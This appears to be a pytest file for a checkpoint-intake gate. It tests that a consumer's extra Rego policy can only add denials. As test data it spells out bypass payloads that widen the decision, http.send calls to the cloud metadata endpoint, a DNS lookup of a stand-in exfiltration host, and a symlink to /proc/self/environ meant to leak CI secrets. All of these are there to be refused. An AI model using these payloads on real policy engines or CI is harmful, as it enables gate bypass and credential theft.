"""Extra Rego (a consumer repository's ``extra_rego``) can only add reasons to deny.

Generated spellings of the ways a Rego file can define a rule somewhere: packages with brackets,
quoted and escaped keys, ``data.`` prefixes and look-alike names; rule heads written as references,
through an import alias, on ``data`` or ``input``; ``with`` overrides, ``default`` rules; several
files of one package.  Each is either refused with ``usage.config.extra_rego`` naming the file and
the package or rule, or accepted and then shown, on a real decision of the embedded OPA, to leave an
unsigned checkpoint whose ``config.json`` carries ``auto_map`` denied.  A control proves the payload
these spellings carry does publish it when it reaches the bundled package, so the refusals matter.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from ckptgate import pipeline
from ckptgate.decide.bundle import find_opa
from ckptgate.decide.extra_rego import check_extra_rego, extra_rego_overlays
from ckptgate.decide.engine import EmbeddedOpa
from ckptgate.errors import ConfigError, EngineUnavailable, ExitCode
from ckptgate.inspect import SafeTree
from ckptgate.policydata import TRUST_IN_BUNDLE
from ckptgate.verify.trust import TrustData
from tests.pipeline_helpers import demo_attested

REPO = Path(__file__).resolve().parents[2]
HF = REPO / "tests" / "fixtures" / "data" / "hf_sharded" / "checkpoint"

try:
    find_opa()
except EngineUnavailable:  # pragma: no cover - the development clone pins one
    pytest.skip("no OPA binary here", allow_module_level=True)

# What an attacker adds to the bundled intake package: the attestation requirement and a clean
# inspection.  Loaded there, it publishes an unsigned checkpoint with auto_map (the control below).
WIDEN = "requirement_met if true\n\n_inspection_clean if true\n\nallow := true\n"
DENY = '\ndeny contains {"code": "no_fridays", "message": "no intake on a Friday"} if input.request.action\n'

RESERVED = ["ckptgate", "ckptgate.intake", "ckptgate.config.intake", "system", "system.authz"]


def _bracketed(pkg: str) -> list[str]:
    """``a.b.c`` as OPA also accepts it: every key after the first in brackets, quoted or escaped."""
    first, *rest = pkg.split(".")
    escaped = "".join('["' + "".join("\\u%04x" % ord(ch) if ch in "aeiou" else ch for ch in k) + '"]' for k in rest)
    return [
        pkg,
        f"data.{pkg}",
        first + "".join(f'["{k}"]' for k in rest),
        first + escaped,
        first + "".join(f"[`{k}`]" for k in rest),
    ]


def _refused_packages() -> list[str]:
    out = list(dict.fromkeys(s for pkg in RESERVED for s in _bracketed(pkg)))
    out += ["data.ckptgate_consumer", "ckptgate_consumerx", "ckptgate_consumer_test", "ckptgate_consume", "acme.gates"]
    out += ["ckptgate_consumer.deny", 'ckptgate_consumer["deny"]', 'ckptgate_consumer["d\\u0065ny"].x']
    return out


# (case id, {file name: text}, the refused file, what the refusal names (package or rule))
REFUSED: list[tuple[str, dict[str, str], str, dict[str, str]]] = [
    (f"package {pkg}", {"a.rego": f"package {pkg}\n\n{WIDEN}"}, "a.rego", {}) for pkg in _refused_packages()
]
REFUSED += [
    (
        "a second file of the bundled package",
        {"a.rego": f"package ckptgate_consumer\n{DENY}", "b.rego": f'package ckptgate["intake"]\n\n{WIDEN}'},
        "b.rego",
        {"package": "data.ckptgate.intake"},
    ),
    (
        "a test file in the bundled package",
        {"a_test.rego": "package ckptgate.intake\n\ntest_x if true\n"},
        "a_test.rego",
        {"package": "data.ckptgate.intake"},
    ),
    (
        "a rule head starting with data",
        {"a.rego": "package ckptgate_consumer\n\ndata.ckptgate.intake.allow if true\n"},
        "a.rego",
        {"rule": "data.ckptgate.intake.allow"},
    ),
    (
        "a rule head starting with input",
        {"a.rego": "package ckptgate_consumer\n\ninput.request.action := \"qualify\"\n"},
        "a.rego",
        {"rule": "input.request.action"},
    ),
    (
        "a rule head through an import alias",
        {"a.rego": "package ckptgate_consumer\n\nimport data.ckptgate as c\n\nc.intake.requirement_met if true\n"},
        "a.rego",
        {"rule": "c.intake.requirement_met"},
    ),
    (
        "a rule head through a bracketed import",
        {"a.rego": 'package ckptgate_consumer.x\n\nimport data.ckptgate["intake"]\n\nintake["allow"] := true\n'},
        "a.rego",
        {"rule": "intake.allow"},
    ),
    (
        "a rule head through an aliased import of system",
        {"a.rego": "package ckptgate_consumer\n\nimport data.system.authz as z\n\nz.allow if true\n"},
        "a.rego",
        {"reference": "data.system.authz"},  # refused first for importing the engine's own namespace
    ),
    (
        "deny as a function",
        {"a.rego": 'package ckptgate_consumer\n\ndeny(x) := {"code": "a", "message": x}\n'},
        "a.rego",
        {"rule": "deny"},
    ),
    (
        "deny as an object",
        {"a.rego": 'package ckptgate_consumer\n\ndeny.no_fridays := "m"\n'},
        "a.rego",
        {"rule": "deny.no_fridays"},
    ),
]
_WITH = [
    ("data.ckptgate.config.intake", ""),
    ('data["ckptgate"]["config"]', ""),
    ("data", ""),
    ("data.system.authz.allow", ""),
    ("cfg.intake", "import data.ckptgate.config as cfg\n\n"),
    ("config.loaders", "import data.ckptgate.config\n\n"),
    ("ckptgate", "import data.ckptgate\n\n"),
    ("d.ckptgate", "import data as d\n\n"),
]
for target, imports in _WITH:
    for where, body in [
        ("an expression", "x if {{\n\tcount(data.ckptgate.config.loaders) > 0 with {t} as {{}}\n}}\n"),
        ("a comprehension", "x := [1 | true with {t} as {{}}]\n"),
        ("an every body", "x if {{\n\tevery y in [1] {{\n\t\ty == 1 with {t} as {{}}\n\t}}\n}}\n"),
        ("an else branch", "x := 1 if false\n\nelse := 2 if {{\n\ttrue with {t} as {{}}\n}}\n"),
    ]:
        text = f"package ckptgate_consumer.sub\n\n{imports}{body.format(t=target)}"
        # a target of the whole of data or of data.system is refused first as reading the engine's own state
        state = {"data": "data", "data.system.authz.allow": "data.system.authz.allow", "d.ckptgate": "data"}
        named = {"reference": state[target]} if target in state else {"rule": "x"}
        REFUSED.append((f"with {target} in {where}", {"w.rego": text}, "w.rego", named))

# A judged change's Rego must not reach the network, the engine's runtime, the clock or randomness (a
# metadata endpoint's credentials, read with http.send and sent on with another, in pre-merge CI).
_SEND = 'http.send({"method": "get", "url": "http://169.254.169.254/latest/meta-data/"})'
for called, body in [
    ("http.send", f'deny contains {{"code": "x", "message": m}} if {{\n\tm := {_SEND}.raw_body\n}}\n'),
    ("http.send", f"x if {{\n\t{_SEND}\n}}\n"),
    ("http.send", f"x := [r | r := {_SEND}]\n"),
    ("http.send", f"x := 1 if false\n\nelse := 2 if {{\n\tevery y in [1] {{\n\t\t{_SEND}.status_code == y\n\t}}\n}}\n"),
    ("opa.runtime", "x := opa.runtime().env\n"),
    ("net.lookup_ip_addr", 'x if net.lookup_ip_addr("exfil.example")\n'),
    ("time.now_ns", "x if time.now_ns() > 0\n"),
    ("rand.intn", 'x := rand.intn("a", 10)\n'),
    ("uuid.rfc4122", 'x := uuid.rfc4122("a")\n'),
]:
    text = f"package ckptgate_consumer\n\n{body}"
    rule = "deny" if body.startswith("deny") else "x"
    REFUSED.append((f"{called} in {body.split()[0]} ({len(REFUSED)})", {"n.rego": text}, "n.rego",
                    {"builtin": called, "rule": rule}))
# A builtin named as a `with` value is called wherever the replaced function is: `f(x) with f as
# http.send` sends x (a request arrived at a local listener from the embedded engine and from `opa test`).
_SEND_ARG = _SEND.removeprefix("http.send(").removesuffix(")")
for called, body in [
    ("http.send", f"f(x) := x\n\nx := r if {{\n\tr := f({_SEND_ARG}) with f as http.send\n}}\n"),
    ("http.send", f'f(x) := x\n\nx := r if {{\n\tr := f({_SEND_ARG}) with f as http["send"]\n}}\n'),
    ("http.send", f"f(x) := x\n\nh(x) := f(x)\n\nx := r if {{\n\tr := h({_SEND_ARG}) with f as http.send\n}}\n"),
    (
        "http.send",
        f"import data.ckptgate_consumer.f as q\n\nf(x) := x\n\nx := r if {{\n\tr := q({_SEND_ARG}) with q as http.send\n}}\n",
    ),
    ("net.lookup_ip_addr", 'f(x) := x\n\nx := r if {\n\tr := f("exfil.example") with f as net.lookup_ip_addr\n}\n'),
    ("http.send", f"x if {{\n\tdata.ckptgate_consumer.y[{_SEND}.status_code] with data.ckptgate_consumer.y as 1\n}}\n"),
]:
    REFUSED.append((f"{called} as a with value ({len(REFUSED)})", {"n.rego": f"package ckptgate_consumer\n\n{body}"},
                    "n.rego", {"builtin": called, "rule": "x"}))
REFUSED.append(("http.send as a with value in a test file",
                {"n_test.rego": f"package ckptgate_consumer\n\nf(x) := x\n\ntest_x if {{\n\tf({_SEND_ARG}) with f as http.send\n}}\n"},
                "n_test.rego", {"builtin": "http.send", "rule": "test_x"}))
REFUSED.append(("http.send in a test file", {"n_test.rego": f"package ckptgate_consumer\n\ntest_x if {{\n\t{_SEND}\n}}\n"},
                "n_test.rego", {"builtin": "http.send", "rule": "test_x"}))

# The engine's own state is no input: data.system.bundles is keyed by the engine's private work directory,
# opa-<128 random bits> (a coin a rule could toss), and walk(data) or data[k] reaches it too.
for reference, body in [
    ("data.system.bundles", "x := data.system.bundles\n"),
    ("data.system", "import data.system as s\n\nx := s.version\n"),
    ("data", "x := [p | walk(data, [p, _])]\n"),
    ("data[k]", 'x := data[k] if k := concat("", ["sys", "tem"])\n'),
]:
    REFUSED.append((f"reads {reference} ({len(REFUSED)})", {"r.rego": f"package ckptgate_consumer\n\n{body}"},
                    "r.rego", {"reference": reference}))

# (case id, {file name: text}): accepted, and still unable to widen.
ACCEPTED: list[tuple[str, dict[str, str]]] = [
    (f"helpers in package {pkg}", {"a.rego": f"package {pkg}\n\n{WIDEN}"})
    for pkg in (
        "ckptgate_consumer",
        "ckptgate_consumer.sub",
        'ckptgate_consumer["sub"]',
        'ckptgate_consumer["s\\u0075b"]',
        'ckptgate_consumer["ckptgate"]["intake"]',
        "ckptgate_consumer.system.authz",
        "ckptgate_consumer.intake_test",
    )
]
ACCEPTED += [
    ("default rules", {"a.rego": "package ckptgate_consumer\n\ndefault allow := true\n\ndefault deny := set()\n"}),
    ("an empty deny", {"a.rego": "package ckptgate_consumer\n\ndeny := set()\n"}),
    (
        "a decision of its own",
        {"a.rego": 'package ckptgate_consumer.intake\n\ndecision := {"allow": true, "reasons": []}\n\nprecheck := {}\n'},
    ),
    (
        "imports with aliases, read only",
        {
            "a.rego": "package ckptgate_consumer\n\nimport data.ckptgate.config as cfg\n\nimport input.request as r\n\n"
            "helper := cfg.intake.freshness\n\nrequirement_met if r.action\n"
        },
    ),
    (
        "one package across files",
        {"a.rego": f"package ckptgate_consumer.sub\n\n{WIDEN}", "b.rego": "package ckptgate_consumer.sub\n\nmore := 1\n"},
    ),
    (
        "http.send replaced with a mock in a test, never called",
        {
            "a_test.rego": "package ckptgate_consumer\n\nmock(_) := {\"status_code\": 200}\n\n"
            "test_x if {\n\tallow with http.send as mock\n}\n\nallow := true\n"
        },
    ),
    (
        "with on input and the consumer's own data",
        {
            "a.rego": "package ckptgate_consumer.sub\n\nx if {\n\tallow with input as {}\n"
            "\tallow with data.ckptgate_consumer.y as 1\n}\n\nallow := true\n"
        },
    ),
]


def _write(root: Path, files: dict[str, str]) -> Path:
    shutil.rmtree(root, ignore_errors=True)
    root.mkdir(parents=True)
    for name, text in files.items():
        (root / name).write_text(text)
    return root


@pytest.mark.parametrize(("files", "bad", "named"), [c[1:] for c in REFUSED], ids=[c[0] for c in REFUSED])
def test_a_definition_outside_the_consumer_namespace_is_refused(tmp_path, files, bad, named):
    extra = _write(tmp_path / "policy", files)
    # every spelling is one OPA accepts: the refusal is ckptgate's, not a parse error
    for name in files:
        parsed = subprocess.run([find_opa(), "parse", str(extra / name)], capture_output=True, text=True, check=False)
        assert parsed.returncode == 0, parsed.stderr
    for check in (check_extra_rego, extra_rego_overlays):
        with pytest.raises(ConfigError) as e:
            check(extra)
        assert e.value.code == "usage.config.extra_rego" and e.value.exit_code == ExitCode.USAGE
        assert e.value.evidence["file"] == str(extra / bad), e.value.message
        assert e.value.message.startswith(f"{extra / bad}: ")
        for key, value in named.items():
            assert e.value.evidence[key] == value, e.value.evidence
        assert "package" in e.value.evidence


def test_every_refused_package_spelling_is_the_package_opa_sees(tmp_path):
    """The refusal names the package as OPA reads it: brackets and escapes give the dotted name."""
    for spelling in _bracketed("ckptgate.config.intake"):
        extra = _write(tmp_path / "policy", {"a.rego": f"package {spelling}\n\nx := 1\n"})
        with pytest.raises(ConfigError) as e:
            check_extra_rego(extra)
        want = "data.data.ckptgate.config.intake" if spelling.startswith("data.") else "data.ckptgate.config.intake"
        assert e.value.evidence["package"] == want


def test_a_file_that_does_not_parse_is_refused_naming_it(tmp_path):
    extra = _write(tmp_path / "policy", {"a.rego": "package ckptgate_consumer\n", "b.rego": "package x\n\np { true }\n"})
    with pytest.raises(ConfigError) as e:
        extra_rego_overlays(extra)
    assert e.value.code == "usage.config.extra_rego" and e.value.evidence["file"] == str(extra / "b.rego")
    assert "rego_parse_error" in e.value.message


@pytest.fixture(scope="module")
def auto_map(tmp_path_factory) -> Path:
    """An unsigned copy of the HF fixture whose config.json carries auto_map."""
    src = tmp_path_factory.mktemp("ckpt") / "model"
    shutil.copytree(HF, src)
    (src / "config.json").write_text(json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.Model"}}))
    return src


def _decide(src: Path, overlays: dict[str, bytes], attestations: tuple[Path, ...] = (), trust: bytes | None = None):
    raw = trust if trust is not None else (REPO / "policies" / TRUST_IN_BUNDLE).read_bytes()
    with EmbeddedOpa(overlays={TRUST_IN_BUNDLE: raw, **overlays}) as engine, SafeTree.open(src) as tree:
        return pipeline.evaluate(
            tree, attestations=list(attestations), engine=engine, trust=TrustData.from_json(raw)
        ).decision


def _deny_codes(decision) -> set[str]:
    return {r.code for r in decision.deny_reasons}


def test_the_payload_publishes_when_it_reaches_the_bundled_package(tmp_path, auto_map):
    """The control: loaded without the check, `package ckptgate["intake"]` allows the checkpoint,
    which is what each refusal above prevents."""
    baseline = _decide(auto_map, {})
    assert not baseline.allow and {"inspection_not_clean", "attestation_missing"} <= _deny_codes(baseline)
    smuggled = _decide(auto_map, {"extra/a.rego": f'package ckptgate["intake"]\n\n{WIDEN}'.encode()})
    assert smuggled.allow and smuggled.exit_code == ExitCode.OK


@pytest.mark.parametrize("files", [c[1] for c in ACCEPTED], ids=[c[0] for c in ACCEPTED])
def test_an_accepted_spelling_cannot_widen_the_decision(tmp_path, auto_map, files):
    extra = _write(tmp_path / "policy", files)
    check_extra_rego(extra)
    overlays = extra_rego_overlays(extra)
    assert set(overlays) == {f"extra/{n}" for n in files if not n.endswith("_test.rego")}
    decision = _decide(auto_map, overlays)
    assert not decision.allow and decision.exit_code != ExitCode.OK
    assert {"inspection_not_clean", "attestation_missing"} <= _deny_codes(decision)


@pytest.fixture(scope="module")
def signed(tmp_path_factory) -> tuple[Path, Path, bytes]:
    """A copy of the HF fixture, its trusted demo qualification and the trust data naming its key."""
    work = tmp_path_factory.mktemp("signed")
    src = work / "model"
    shutil.copytree(HF, src)
    att = demo_attested(src, work)
    return src, att.attestation, att.trust.read_bytes()


def test_a_consumer_deny_refuses_an_otherwise_allowed_intake_with_exit_3(tmp_path, signed):
    src, attestation, trust = signed
    assert _decide(src, {}, (attestation,), trust).allow
    extra = _write(tmp_path / "policy", {"gates.rego": f"package ckptgate_consumer\n{DENY}"})
    decision = _decide(src, extra_rego_overlays(extra), (attestation,), trust)
    assert not decision.allow and decision.refusal == "policy" and decision.exit_code == ExitCode.DENIED == 3
    assert _deny_codes(decision) == {"consumer.no_fridays"}
    [reason] = decision.deny_reasons
    assert reason.message == "no intake on a Friday"


@pytest.mark.parametrize(
    "rule",
    [
        'deny contains "no_fridays"',
        "deny contains 1",
        'deny contains {"code": 1, "message": "m"}',
        'deny contains {"code": "No Fridays", "message": "m"}',
        'deny contains {"code": "x", "message": "m", "evidence": 3}',
        "deny := true",
        'deny := {"a": 1}',
        'deny := [{"code": "x", "message": "y"}]',
    ],
)
def test_a_malformed_consumer_deny_is_a_deny_not_a_policy_that_fails_to_compile(tmp_path, signed, rule):
    """The bundled rule reads the consumer's deny whatever its type: OPA's type checker, which
    knows the type, must not refuse the bundle (that too would deny, but say nothing useful)."""
    src, attestation, trust = signed
    extra = _write(tmp_path / "policy", {"a.rego": f"package ckptgate_consumer\n\n{rule}\n"})
    decision = _decide(src, extra_rego_overlays(extra), (attestation,), trust)
    assert not decision.allow and decision.exit_code == ExitCode.DENIED
    assert _deny_codes(decision) == {"consumer.malformed"}


def test_a_consumer_rule_that_fails_at_evaluation_is_a_deny(tmp_path, signed):
    """Conflicting values of a complete rule are an evaluation error: OPA answers no decision,
    which the caller treats as deny (EngineUnavailable), never as allow."""
    src, attestation, trust = signed
    extra = _write(
        tmp_path / "policy",
        {
            "a.rego": "package ckptgate_consumer\n\nday := 1 if input.request.action\n\nday := 2 if input.request.action\n\n"
            'deny contains {"code": "odd", "message": "m"} if day == 3\n'
        },
    )
    with pytest.raises(EngineUnavailable) as e:
        _decide(src, extra_rego_overlays(extra), (attestation,), trust)
    assert e.value.exit_code == ExitCode.ENGINE_UNAVAILABLE
    assert "eval_conflict_error" in e.value.message and "data.ckptgate_consumer.day" in e.value.message


def test_the_cli_applies_the_consumer_deny_from_the_configuration(tmp_path, auto_map):
    root = tmp_path / "repo"
    _write(root / "policy", {"gates.rego": f"package ckptgate_consumer\n{DENY}"})
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (root / "ckptgate.toml").write_text('extra_rego = "policy"\ndocs = []\n')
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "CKPTGATE_OPA": find_opa()}
    out = subprocess.run(
        [sys.executable, "-m", "ckptgate", "decide", str(auto_map), "--json"],
        cwd=root, env=env, capture_output=True, text=True, timeout=180, check=False,
    )
    doc = json.loads(out.stdout)
    assert out.returncode == ExitCode.INPUT_REJECTED, out.stdout + out.stderr  # auto_map: the input's own content
    assert {"consumer.no_fridays", "inspection_not_clean"} <= {r["code"] for r in doc["decision"]["reasons"]}
    (root / "policy" / "bad.rego").write_text('package ckptgate["intake"]\n\n' + WIDEN)
    out = subprocess.run(
        [sys.executable, "-m", "ckptgate", "decide", str(auto_map), "--json"],
        cwd=root, env=env, capture_output=True, text=True, timeout=180, check=False,
    )
    assert out.returncode == ExitCode.USAGE, out.stdout + out.stderr
    assert json.loads(out.stdout)["error"]["code"] == "usage.config.extra_rego"


def test_without_opa_the_configuration_loads_and_the_engine_refuses(tmp_path, monkeypatch):
    """A command that starts no engine reads the configuration without an OPA binary; the parse
    then happens where the extra Rego is loaded, which needs OPA anyway, so nothing unparsed loads."""
    from ckptgate.decide import extra_rego

    def missing() -> str:
        raise EngineUnavailable("engine.opa.not_installed", "no OPA here")

    extra = _write(tmp_path / "policy", {"a.rego": f'package ckptgate["intake"]\n\n{WIDEN}'})
    monkeypatch.setattr(extra_rego, "find_opa", missing)
    check_extra_rego(extra)
    with pytest.raises(EngineUnavailable):
        extra_rego_overlays(extra)
    monkeypatch.undo()
    with pytest.raises(ConfigError):
        extra_rego_overlays(extra)


def test_an_extra_rego_link_is_never_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A committed ``extra/x.rego -> /proc/self/environ``: OPA's parse error quoted the file back, so a pull
    request could print the CI job's secrets into the refusal.  A link is refused unread."""
    monkeypatch.setenv("CKPTGATE_TEST_SECRET", "hunter2-SECRET")
    extra = tmp_path / "extra"
    extra.mkdir()
    (extra / "x.rego").symlink_to("/proc/self/environ")
    with pytest.raises(ConfigError) as e:
        check_extra_rego(extra)
    assert e.value.code == "usage.config.extra_rego"
    assert "hunter2" not in json.dumps(e.value.to_json())
